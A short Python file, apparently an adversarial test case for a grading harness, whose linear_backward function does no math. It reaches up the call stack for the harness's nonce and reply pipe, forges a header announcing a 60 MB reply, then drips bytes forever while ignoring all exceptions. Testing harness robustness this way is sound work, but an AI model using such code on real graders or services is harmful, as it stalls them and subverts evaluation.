# goal: announce a reply of 60 MB and send one byte of it now and then
# seen: linear_backward=timeout died
# within_s: 15
import os
import struct
import sys
import time


def wire():
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("request"), "nonce") or not hasattr(frame.f_locals.get("self"), "_pipe"):
        frame = frame.f_back
    return frame.f_locals["request"].nonce, frame.f_locals["self"]._pipe._replies


def linear_backward(dZ, cache):
    nonce, replies = wire()
    os.write(replies, struct.pack("<4s16sIQ", b"CHR1", nonce, 100, 60 << 20))
    while True:
        try:
            os.write(replies, b"x")
            time.sleep(0.1)
        except BaseException:
            continue
